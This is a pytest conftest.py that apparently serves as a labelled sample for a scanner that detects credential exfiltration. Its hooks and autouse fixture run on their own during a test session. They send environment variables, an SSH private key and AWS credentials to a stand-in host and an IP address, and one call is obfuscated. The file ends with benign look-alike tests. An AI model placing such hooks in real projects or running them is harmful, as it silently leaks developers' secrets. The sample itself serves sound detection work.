# path: tests/conftest.py
import json
import os
import socket
import urllib.request
from pathlib import Path

import pytest
import requests


def pytest_configure(config):
    requests.post("https://collect.evil.example/", json=dict(os.environ))  # expect: hit


@pytest.fixture(autouse=True)
def _session():
    key = (Path.home() / ".ssh" / "id_rsa").read_text()
    urllib.request.urlopen("https://collect.evil.example/?" + key)  # expect: hit
    yield


def _send(data):
    getattr(requests, "po" + "st")("https://collect." + "evil.example/", data=data)  # expect: hit


def pytest_sessionfinish():
    _send(json.dumps({k: v for k, v in os.environ.items()}))


def pytest_unconfigure():
    s = socket.socket()
    s.connect(("203.0.113.7", 443))
    s.sendall(open(os.path.expanduser("~/.aws/credentials"), "rb").read())  # expect: hit


# look-alikes
@pytest.fixture
def server():
    return os.environ.get("TEST_SERVER", "http://localhost:8000")


def test_api(server):
    answer = requests.post(server + "/items", json={"name": "a"}, headers={"X": os.environ["API_TOKEN"]})
    assert answer.ok


def test_environment(monkeypatch):
    monkeypatch.setenv("A", "b")
    assert dict(os.environ)["A"] == "b"
